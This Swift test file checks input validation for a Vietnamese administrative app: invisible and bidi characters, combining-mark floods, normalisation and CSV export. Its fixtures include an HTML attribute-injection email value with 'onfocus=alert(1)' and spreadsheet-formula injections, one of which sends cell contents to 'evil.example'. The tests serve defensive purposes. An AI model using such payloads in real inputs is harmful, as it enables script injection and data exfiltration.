import DVKCore
import Foundation
import Testing

/// The one rule for text people send: what is kept, what is refused, the same for a
/// form, the API and a file.
@Suite struct TextInputTests {
    let title = TextRule("tên mô hình", max: 10, required: true)
    let content = TextRule("nội dung", .multiline, max: 50)

    @Test(arguments: ["\u{1C}", "\u{200B}", "\u{202E}abc", "Tổ\u{0}1", "\u{E000}x", "a\u{2028}b", "\u{FEFF}Tổ"])
    func invisibleAndControlCharactersAreRefused(text: String) {
        #expect(throws: TextProblem.self) { try title.check(text).get() }
        #expect(throws: TextProblem.self) { try content.check(text).get() }
    }

    @Test func lineBreaksAndTabsOnlyInLongText() throws {
        #expect(throws: TextProblem("tên mô hình không được xuống dòng hay có ký tự tab")) { try title.check("Tổ\n1").get() }
        #expect(throws: TextProblem.self) { try title.check("Tổ\t1").get() }
        #expect(try content.check("  Dòng 1\r\nDòng\t  2\r\n\n").get() == "Dòng 1\nDòng 2")
    }

    @Test func aRequiredFieldNeedsAVisibleLetterOrDigit() throws {
        #expect(throws: TextProblem("thiếu tên mô hình")) { try title.check("   ").get() }
        #expect(throws: TextProblem("tên mô hình cần có ít nhất một chữ cái hoặc chữ số")) { try title.check("– … –").get() }
        #expect(try title.check(" Tổ  1 ").get() == "Tổ 1")
        #expect(try TextRule("chức vụ", max: 5).check("").get() == "")
    }

    @Test func textIsStoredNFCAndBounded() throws {
        #expect(try title.check("Ho\u{0300}a").get() == "Hòa")
        #expect(try title.check(String(repeating: "ệ", count: 10)).get().count == 10)
        #expect(throws: TextProblem("tên mô hình dài quá 10 ký tự")) { try title.check(String(repeating: "ệ", count: 11)).get() }
        #expect(throws: TextProblem("nội dung công văn dài quá 20.000 ký tự")) {
            try TextRules.letterBody.check(String(repeating: "a", count: 20_001)).get()
        }
    }

    @Test func anInitiativeNamesEachBadFieldAndParsesTheRest() throws {
        var input = InitiativeInput([.kind: "tập thể", .registrantName: "\u{200B}", .sector: "văn hoá - xã hội", .title: "Lớp học",
                                     .startDate: "01/03/2024", .endDate: "2024-02-01", .continuity: "maybe"])
        guard case .failure(let problems) = input.draft(sectors: Sector.defaults) else {
            Issue.record("expected problems")
            return
        }
        #expect(problems.byField.map(\.field) == [.registrantName, .endDate, .continuity])
        #expect(problems.sentence(naming: { "cột " + $0.column }).contains("(mã U+200B) (cột registrant_name)"))
        input[.registrantName] = "Tổ  Văn phòng"
        input[.endDate] = "31/12/2024"
        input[.continuity] = nil
        let draft = try input.draft(sectors: Sector.defaults).get()
        #expect(draft.kind == .collective && draft.registrantName == "Tổ Văn phòng" && draft.sectorCode == "van-hoa-xa-hoi")
        #expect(draft.startDate == CalendarDay(year: 2024, month: 3, day: 1) && draft.continuity == .new)
        #expect(InitiativeInput(draft)[.sector] == "van-hoa-xa-hoi")
    }

    @Test func aUnitIsCheckedTheSameWayFromAFormOrAFile() throws {
        let bad = UnitInput(code: "new", name: "\u{1C}", kind: "trường học", parentCode: "X", email: "x@a.vn\"/autofocus/onfocus=\"alert(1)",
                            phone: "=HYPERLINK(\"http://evil\")")
        guard case .failure(let problems) = bad.check() else {
            Issue.record("expected problems")
            return
        }
        #expect(Set(problems.byField.keys) == [.code, .name, .kind, .email, .phone])
        let good = try UnitInput(code: " S1 ", name: "Trường  Tiểu học", kind: "cdcs", parentCode: "GD", email: "s1@example.vn",
                                 phone: "+84 24 3827 0000").check().get()
        #expect(good.code == "S1" && good.name == "Trường Tiểu học" && good.kind == .grassroots && good.parentCode == "GD")
        #expect(!UnitInput.looksLikeEmail("a@b..vn") && !UnitInput.looksLikeEmail("a b@c.vn") && UnitInput.looksLikeEmail("cd.s1+x@lb.gov.vn"))
    }

    @Test(arguments: ["\u{FFFF}", "a\u{FFFE}", String(Unicode.Scalar(0xFDD0)!) + "x", "\u{2066}abc\u{2069}", "\u{202A}x",
                      String(Unicode.Scalar(0x1FFFE)!)])
    func noncharactersAndDirectionControlsAreRefused(text: String) {
        #expect(throws: TextProblem.self) { try title.check(text).get() }
        #expect(throws: TextProblem.self) { try content.check(text).get() }
    }

    @Test func aLetterCarriesAtMostTwoMarks() throws {
        // Vietnamese, typed decomposed: two marks on one letter, stored composed.
        #expect(try title.check("Vie\u{0302}\u{0323}t").get() == "Việt")
        // A letter that composes no further keeps its two marks.
        #expect(try title.check("q\u{0302}\u{0323}").get().unicodeScalars.count == 3)
        // A letter with three marks that compose into nothing: refused.
        let three = "q\u{0302}\u{0323}\u{0301}"
        #expect(throws: TextProblem("tên mô hình có chữ mang quá nhiều dấu hoặc ký tự ghép (mỗi chữ có tối đa 2 dấu)")) {
            try title.check("A" + three).get()
        }
        // "ệ" with an acute: NFC makes it "ệ" + one mark, which is fine.
        #expect(try title.check("e\u{0302}\u{0323}\u{0301}").get().unicodeScalars.count == 2)
        // The attack: one displayed letter with 100,000 marks, refused without rendering it.
        let heavy = "a" + String(repeating: "\u{0301}", count: 100_000)
        #expect(throws: TextProblem.self) { try TextRules.campaignTitle.check(heavy).get() }
        #expect(throws: TextProblem.self) { try InitiativeField.title.rule.check("q" + String(repeating: "\u{0323}", count: 3)).get() }
        // A chain of conjoining jamo is one character of many code points.
        #expect(throws: TextProblem.self) { try title.check(String(repeating: "\u{1100}", count: 6)).get() }
        // A flag (2 code points) and a keycap (3) are letters like others.
        #expect(try title.check("\u{1F1FB}\u{1F1F3} 1\u{FE0F}\u{20E3}").get().count == 3)
    }

    @Test func inputFarLongerThanAFieldIsRefusedBeforeAnyWork() throws {
        // 16 bytes a character at most, plus a little: here 10 characters = 1,184 bytes.
        #expect(throws: TextProblem("tên mô hình dài quá 10 ký tự")) { try title.check(String(repeating: " ", count: 1_185) + "a").get() }
        #expect(try title.check(String(repeating: " ", count: 1_100) + "a").get() == "a")
    }

    @Test func rendererTakesAtMostTwoMarksPerLetterWhateverIsStored() {
        let stored = "Tê\u{0301}" + String(repeating: "\u{0323}", count: 100_000) + "t"
        let tamed = TextRule.tamed(stored)
        #expect(tamed.unicodeScalars.count == 5)
        #expect(Array(tamed.unicodeScalars.map(\.value)) == [0x54, 0xEA, 0x0301, 0x0323, 0x74])
        #expect(TextRule.tamed("Việt Nam 🇻🇳") == "Việt Nam 🇻🇳")
    }

    @Test func spreadsheetsShowFormulaLikeCellsAsText() {
        let csv = CSVWriter.write(header: ["a", "b"], rows: [["=HYPERLINK(\"http://evil.example/?\"&A2,\"Xem\")", "+84 912"],
                                                            ["-1", "@SUM(A1)"], ["\tx", "bình thường"]])
        let lines = csv.components(separatedBy: "\r\n")
        #expect(lines[1] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Xem\"\")\",'+84 912")
        #expect(lines[2] == "'-1,'@SUM(A1)")
        #expect(lines[3] == "'\tx,bình thường")
    }

    /// The verification's fields, read the same for the web form and the API: the verdict
    /// follows the criteria unless one that differs is given with its reason.
    @Test func aVerificationIsCheckedOnceForTheFormAndTheAPI() throws {
        let followed = try VerificationInput.check(day: "20/09/2024", met: [true, false], criteria: 2, comments: "  Thiết thực ",
                                                   verdict: nil).get()
        #expect(followed == VerificationInput(day: CalendarDay(year: 2024, month: 9, day: 20), met: [true, false], comments: "Thiết thực",
                                              verdict: .failed))
        #expect(try VerificationInput.check(day: "2024-09-20", met: [true, true], criteria: 2, comments: nil, verdict: "").get().verdict == .passed)
        // Overridden: only with a reason, which is kept; the same verdict needs none and keeps none.
        guard case .failure(let bare) = VerificationInput.check(day: "20/09/2024", met: [true, false], criteria: 2, comments: nil, verdict: "passed")
        else { Issue.record("an override without a reason was accepted"); return }
        #expect(bare["reason"] == "Kết luận “Đạt” khác kết quả các tiêu chí (không đạt): ghi lý do.")
        let overridden = try VerificationInput.check(day: "20/09/2024", met: [true, false], criteria: 2, comments: nil, verdict: "passed",
                                                     reason: "Tiêu chí 2 đã khắc phục sau thẩm định").get()
        #expect(overridden.verdict == .passed && overridden.overrideReason == "Tiêu chí 2 đã khắc phục sau thẩm định")
        #expect(try VerificationInput.check(day: "20/09/2024", met: [true], criteria: 1, comments: nil, verdict: "passed", reason: "thừa").get()
                    .overrideReason == "")
        let bad = VerificationInput.check(day: "31/02/2024", met: [true], criteria: 3, comments: "x\u{202E}", verdict: "ok")
        guard case .failure(let problems) = bad else { Issue.record("accepted \(bad)"); return }
        #expect(Set(problems.messages.keys) == ["verifiedOn", "met", "comments", "verdict"])
        #expect(problems["met"] == "Phiếu thẩm định có 3 tiêu chí; nhận được 1 câu trả lời.")
        #expect(problems["verifiedOn"]?.contains("“31/02/2024” không hợp lệ") == true)
        guard case .failure(let empty) = VerificationInput.check(day: nil, met: [], criteria: 0, comments: nil, verdict: nil) else {
            Issue.record("an empty form was accepted"); return
        }
        #expect(empty["verifiedOn"] == "Nhập ngày thẩm định.")
    }
}


/// How the fields changed since a return are named and kept.
@Suite struct ChangedFieldsTests {
    @Test func namesAreKeptOnceInTheFormsOrder() {
        #expect(ChangedFields.merge("", [.expectedResult, .startDate, .endDate]) == "Thời gian thực hiện, Kết quả dự kiến")
        #expect(ChangedFields.merge("Kết quả dự kiến", [.title]) == "Tên mô hình, Kết quả dự kiến")
        #expect(ChangedFields.merge(ChangedFields.added, [.title]) == "Mô hình mới thêm, Tên mô hình")
        #expect(ChangedFields.merge("", []) == "")
    }
}
